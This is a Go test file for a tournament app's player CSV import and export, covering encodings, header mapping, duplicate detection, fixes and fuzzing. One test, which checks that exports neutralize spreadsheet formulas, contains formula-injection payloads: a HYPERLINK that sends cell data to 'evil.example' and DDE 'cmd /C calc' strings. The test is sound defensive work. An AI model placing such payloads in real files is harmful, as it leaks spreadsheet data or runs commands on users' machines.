package tournament

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestParsePlayersCSV(t *testing.T) {
	t.Run("italian headers, semicolons, BOM, blank lines", func(t *testing.T) {
		in := "\xef\xbb\xbfNome;Cognome;Circolo;Tessera\nNiccolò;D'Alessandro;Circolo Roma;rm1\n\n;;;\nAnna;Bianchi;;\n"
		rows, _, err := ParsePlayersCSV(strings.NewReader(in))
		require.NoError(t, err)
		require.Len(t, rows, 2)
		assert.Equal(t, 2, rows[0].Line)
		assert.Equal(t, Player{FirstName: "Niccolò", LastName: "D'Alessandro", Club: "Circolo Roma", CardNumber: "RM1", Active: true}, rows[0].Player)
		assert.Equal(t, 5, rows[1].Line)
		assert.Equal(t, "Bianchi", rows[1].Player.LastName)
	})
	t.Run("english headers, commas, quotes, columns in any order", func(t *testing.T) {
		in := "last_name,first_name,notes\n\"Rossi, jr\",Mario,\"likes \"\"quotes\"\"\"\n"
		rows, _, err := ParsePlayersCSV(strings.NewReader(in))
		require.NoError(t, err)
		require.Len(t, rows, 1)
		assert.Equal(t, "Rossi, jr", rows[0].Player.LastName)
		assert.Equal(t, `likes "quotes"`, rows[0].Player.Notes)
	})
	t.Run("tabs", func(t *testing.T) {
		rows, _, err := ParsePlayersCSV(strings.NewReader("nome\tcognome\nA\tB\n"))
		require.NoError(t, err)
		assert.Equal(t, "B", rows[0].Player.LastName)
	})
	t.Run("extra fields make the row invalid", func(t *testing.T) {
		rows, _, err := ParsePlayersCSV(strings.NewReader("nome,cognome\nA,B,C\n"))
		require.NoError(t, err)
		assert.Equal(t, ImportInvalid, rows[0].Status)
		assert.Equal(t, "import.too_many_fields", rows[0].Fields["row"])
	})
	t.Run("unknown columns are named and ignored", func(t *testing.T) {
		in := "Nome;Data di nascita;Cognome;  Codice  fiscale ;;Data di nascita\nAnna;01/02/1950;Verdi;VRDNNA;x;y\n"
		rows, ignored, err := ParsePlayersCSV(strings.NewReader(in))
		require.NoError(t, err)
		assert.Equal(t, []string{"Data di nascita", "Codice fiscale"}, ignored, "once each, blank headers left out")
		require.Len(t, rows, 1)
		assert.Equal(t, Player{FirstName: "Anna", LastName: "Verdi", Active: true}, rows[0].Player)
		assert.Equal(t, ImportNew, rows[0].Status)
	})
	errs := []struct {
		name, in, key string
	}{
		{"empty", "  \n", "import.empty"},
		{"no name columns", "club,email\nx,y\n", "import.missing_names"},
		{"only unknown columns beside a name", "nome,colore\nA,rosso\n", "import.missing_names"},
		{"repeated column", "nome,cognome,first_name\n", "import.repeated_column"},
		{"bad quotes", "nome,cognome\n\"A,B\nC", "import.unreadable"},
	}
	for _, tt := range errs {
		t.Run(tt.name, func(t *testing.T) {
			_, _, err := ParsePlayersCSV(strings.NewReader(tt.in))
			e, ok := AsError(err)
			require.True(t, ok, "want a domain error, got %v", err)
			assert.Equal(t, tt.key, e.Key)
		})
	}
	t.Run("too big", func(t *testing.T) {
		_, _, err := ParsePlayersCSV(strings.NewReader("nome,cognome\n" + strings.Repeat("a,b\n", MaxImportBytes/4+1)))
		e, _ := AsError(err)
		require.NotNil(t, e)
		assert.Equal(t, "import.too_big", e.Key)
	})
}

// Spreadsheets in Italy save CSV as UTF-8, UTF-8 with a byte-order mark, or Windows-1252
// (Excel's "CSV (delimitato dal separatore di elenco)"): all three read the same names.
func TestParsePlayersCSVEncodings(t *testing.T) {
	for _, tt := range []struct {
		name string
		in   []byte
	}{
		{"utf-8", []byte("Nome;Cognome;Circolo\nNiccol\xc3\xb2;Mazz\xc3\xa0;Citt\xc3\xa0 di Forl\xc3\xac\n")},
		{"utf-8 with BOM", []byte("\xef\xbb\xbfNome;Cognome;Circolo\nNiccol\xc3\xb2;Mazz\xc3\xa0;Citt\xc3\xa0 di Forl\xc3\xac\n")},
		{"windows-1252", []byte("Nome;Cognome;Circolo\r\nNiccol\xf2;Mazz\xe0;Citt\xe0 di Forl\xec\r\n")},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rows, _, err := ParsePlayersCSV(bytes.NewReader(tt.in))
			require.NoError(t, err)
			require.Len(t, rows, 1)
			assert.Equal(t, Player{FirstName: "Niccolò", LastName: "Mazzà", Club: "Città di Forlì", Active: true}, rows[0].Player)
		})
	}
}

func TestDecodeText(t *testing.T) {
	for _, tt := range []struct {
		name string
		in   []byte
		want string
	}{
		{"ascii", []byte("abc"), "abc"},
		{"utf-8", []byte("Citt\xc3\xa0"), "Città"},
		{"utf-8 BOM dropped", []byte("\xef\xbb\xbfCitt\xc3\xa0"), "Città"},
		{"windows-1252", []byte("Citt\xe0 di Forl\xec"), "Città di Forlì"},
		{"windows-1252 quotes and euro", []byte("\x93s\xec\x94 \x80"), "\u201cs\u00ec\u201d \u20ac"},
		{"windows-1252 apostrophe", []byte("D\x92Alessandro"), "D\u2019Alessandro"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, DecodeText(tt.in))
		})
	}
}

func TestCSVRoundTrip(t *testing.T) {
	ps := []Player{
		{FirstName: "Niccolò", LastName: "D'Alessandro", Club: "Società Burraco Àncona", CardNumber: "AN-1", Email: "n@x.it", Notes: "ha detto \"sì\", poi\nè andato", Active: true},
		{FirstName: "Zoë", LastName: "Çelik", Active: false},
	}
	// Written for an English spreadsheet (',') or an Italian one (';'), it reads back.
	for _, comma := range []rune{',', ';'} {
		var buf bytes.Buffer
		require.NoError(t, WritePlayersCSV(&buf, ps, comma))
		require.True(t, strings.HasPrefix(buf.String(), "\ufefffirst_name"+string(comma)+"last_name"), buf.String())
		rows, _, err := ParsePlayersCSV(&buf)
		require.NoError(t, err)
		require.Len(t, rows, 2)
		for i := range ps {
			assert.Equal(t, ps[i], rows[i].Player)
		}
	}
}

func TestClassify(t *testing.T) {
	existing := []Player{
		{ID: 1, FirstName: "Mario", LastName: "Rossi", Club: "Roma", CardNumber: "C1"},
		{ID: 2, FirstName: "Anna", LastName: "Verdi", Club: "Milano"},
	}
	in := "nome,cognome,circolo,tessera,email\n" +
		"Luca,Neri,Roma,C9,\n" + // 2 new
		"Other,Person,,c1,\n" + // 3 dup card of Rossi
		"anna,VERDI,milano,,\n" + // 4 dup name+club of Verdi
		"Piero,Blu,,C9,\n" + // 5 dup card of line 2
		"Luca,Neri,Roma,,\n" + // 6 dup name of line 2
		",Nobody,,,\n" + // 7 invalid
		"Ugo,Gialli,,,bad\n" // 8 invalid email
	rows, _, err := ParsePlayersCSV(strings.NewReader(in))
	require.NoError(t, err)
	pv := classify(rows, existing)
	type want struct {
		status ImportStatus
		reason string
		of     string
	}
	wants := []want{
		{ImportNew, "", ""},
		{ImportDuplicate, "import.dup.card", "Rossi Mario"},
		{ImportDuplicate, "import.dup.name", "Verdi Anna"},
		{ImportDuplicate, "import.dup.card_in_file", "2"},
		{ImportDuplicate, "import.dup.name_in_file", "2"},
		{ImportInvalid, "", ""},
		{ImportInvalid, "", ""},
	}
	require.Len(t, pv.Rows, len(wants))
	for i, w := range wants {
		r := pv.Rows[i]
		assert.Equal(t, w, want{r.Status, r.Reason, r.DuplicateOf}, "line %d", r.Line)
	}
	assert.Equal(t, map[string]string{"first_name": "error.required"}, pv.Rows[5].Fields)
	assert.Equal(t, map[string]string{"email": "player.email.format"}, pv.Rows[6].Fields)
	assert.Equal(t, [3]int{1, 4, 2}, [3]int{pv.New, pv.Duplicates, pv.Invalid})
}

func FuzzParsePlayersCSV(f *testing.F) {
	f.Add("nome;cognome\nNiccolò;D'Alessandro\n")
	f.Add("first_name,last_name,club,card_number,email,phone,notes,active\nA,B,C,D,e@f.it,1,\"n\nx\",no\n")
	f.Add("\xef\xbb\xbf\"nome\",cognome\n\"a\"\"\",b,c\n")
	f.Fuzz(func(t *testing.T, in string) {
		rows, _, err := ParsePlayersCSV(strings.NewReader(in))
		if err != nil {
			if _, ok := AsError(err); !ok {
				t.Fatalf("non-domain error %v", err)
			}
			return
		}
		pv := classify(rows, nil)
		if pv.New+pv.Duplicates+pv.Invalid != len(rows) {
			t.Fatalf("counts %d+%d+%d != %d rows", pv.New, pv.Duplicates, pv.Invalid, len(rows))
		}
		// What is new must be valid and must round-trip through an export.
		var ps []Player
		for _, r := range pv.Rows {
			if r.Status == ImportNew {
				ps = append(ps, r.Player)
			}
		}
		var buf bytes.Buffer
		if err := WritePlayersCSV(&buf, ps, ';'); err != nil {
			t.Fatal(err)
		}
		back, _, err := ParsePlayersCSV(&buf)
		if len(ps) > 0 && err != nil {
			t.Fatalf("export of valid players does not parse: %v", err)
		}
		for i := range back {
			if back[i].Player != ps[i] {
				t.Fatalf("round trip changed %+v into %+v", ps[i], back[i].Player)
			}
		}
	})
}

func TestImportFixes(t *testing.T) {
	in := "nome,cognome,email,note\n" +
		"Ugo,Gialli,bad,n1\n" + // 2: bad email, fixed
		",Senza,,\n" + // 3: no first name, fixed but still wrong
		"Ada,Neri,,,extra\n" + // 4: too many fields, cells confirmed with a change
		"Eva,Blu,bad,\n" + // 5: bad email, "fixed" with the same value
		"Ivo,Rosa,,\n" // 6: fine, a fix for a column that cannot be fixed
	for _, tt := range []struct {
		name   string
		fixes  ImportFixes
		status []ImportStatus
		fixed  []bool
	}{
		{"none", nil,
			[]ImportStatus{ImportInvalid, ImportInvalid, ImportInvalid, ImportInvalid, ImportNew},
			[]bool{false, false, false, false, false}},
		{"some", ImportFixes{
			2: {"email": " ugo@gialli.it ", "first_name": "Ugo"},
			3: {"club": "Roma"},
			4: {"first_name": "Adele"},
			5: {"email": "bad"},
			6: {"notes": "changed", "active": "no"},
			9: {"first_name": "Nobody"},
		},
			[]ImportStatus{ImportNew, ImportInvalid, ImportNew, ImportInvalid, ImportNew},
			[]bool{true, true, true, false, false}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rows, _, err := ParsePlayersCSV(strings.NewReader(in))
			require.NoError(t, err)
			tt.fixes.apply(rows)
			pv := classify(rows, nil)
			for i, r := range pv.Rows {
				assert.Equal(t, tt.status[i], r.Status, "line %d", r.Line)
				assert.Equal(t, tt.fixed[i], r.Fixed, "line %d", r.Line)
			}
		})
	}
	rows, _, _ := ParsePlayersCSV(strings.NewReader(in))
	ImportFixes{2: {"email": " ugo@gialli.it "}}.apply(rows)
	assert.Equal(t, Player{FirstName: "Ugo", LastName: "Gialli", Email: "ugo@gialli.it", Notes: "n1", Active: true}, rows[0].Player,
		"a fix changes its cell, normalized, and keeps the rest of the row")
	assert.Equal(t, "Senza", rows[1].Player.LastName)
}

// The cells of issue 9: an export shows them as text, a re-import gives them back as
// they were, and the preview flags them.
func TestCSVExportNeutralizesFormulas(t *testing.T) {
	p := Player{
		FirstName: `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
		LastName:  `+cmd|' /C calc'!A0`,
		Club:      `-2+3+cmd|' /C calc'!A0`,
		Notes:     `@SUM(1+1)*cmd|' /C calc'!A0`,
		Phone:     "+39 06 123456",
		Active:    true,
	}
	q := Player{FirstName: "Anna", LastName: "Rossi", CardNumber: "-100", Notes: "-100", Active: true}
	var buf bytes.Buffer
	require.NoError(t, WritePlayersCSV(&buf, []Player{p, q}, ','))
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\xef\xbb\xbf")))).ReadAll()
	require.NoError(t, err)
	require.Len(t, recs, 3)
	assert.Equal(t, []string{`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`,
		"", "", "'+39 06 123456", `'@SUM(1+1)*cmd|' /C calc'!A0`, "yes"}, recs[1])
	assert.Equal(t, []string{"Anna", "Rossi", "", "-100", "", "", "-100", "yes"}, recs[2], "numbers stay numbers")

	rows, _, err := ParsePlayersCSV(bytes.NewReader(buf.Bytes()))
	require.NoError(t, err)
	require.Len(t, rows, 2)
	assert.Equal(t, p, rows[0].Player, "a re-import gives the cells back as they were")
	assert.Equal(t, map[string]string{"first_name": "import.formula", "last_name": "import.formula", "club": "import.formula",
		"notes": "import.formula"}, rows[0].Warnings)
	assert.Equal(t, q, rows[1].Player)
	assert.Empty(t, rows[1].Warnings)
}

// The import's duplicate check folds names as the search does (accents, apostrophes,
// spaces and case ignored) and takes the same club or no club on either side.
func TestClassifyFoldsNames(t *testing.T) {
	existing := []Player{
		{ID: 1, FirstName: "Anna", LastName: "De Luca", Club: "Circolo Roma"},
		{ID: 2, FirstName: "Niccolò", LastName: "D'Amico"},
	}
	for _, tt := range []struct {
		line, of string
	}{
		{"Anna;Deluca;Circolo Roma", "De Luca Anna"},
		{"ANNA;de  luca;circolo roma", "De Luca Anna"},
		{"Anna;De Luca;", "De Luca Anna"},
		{"Anna;De Luca;Circolo Pisa", ""},
		{"Niccolo;Damico;Circolo Pisa", "D'Amico Niccolò"},
		{"Niccolò;D’Àmico;", "D'Amico Niccolò"},
		{"Nicola;D'Amico;", ""},
	} {
		rows, _, err := ParsePlayersCSV(strings.NewReader("nome;cognome;circolo\n" + tt.line + "\n"))
		require.NoError(t, err)
		pv := classify(rows, existing)
		assert.Equal(t, tt.of, pv.Rows[0].DuplicateOf, tt.line)
	}
}

// The pair import matches names to the registry with the same folding: "Deluca" is the
// registered "De Luca".
func TestMatchPairsFoldsNames(t *testing.T) {
	registry := []Player{{ID: 1, FirstName: "Anna", LastName: "De Luca", Active: true}, {ID: 2, FirstName: "Niccolò", LastName: "D'Amico", Active: true}}
	rows := []PairRow{{Line: 2, Members: [2]PairMember{
		{Player: Player{FirstName: "anna", LastName: "Deluca"}},
		{Player: Player{FirstName: "Niccolo", LastName: "Damico"}},
	}}}
	matchPairs(rows, registry, map[int64]string{})
	assert.Equal(t, [2]int64{1, 2}, [2]int64{rows[0].Members[0].Match, rows[0].Members[1].Match})
}
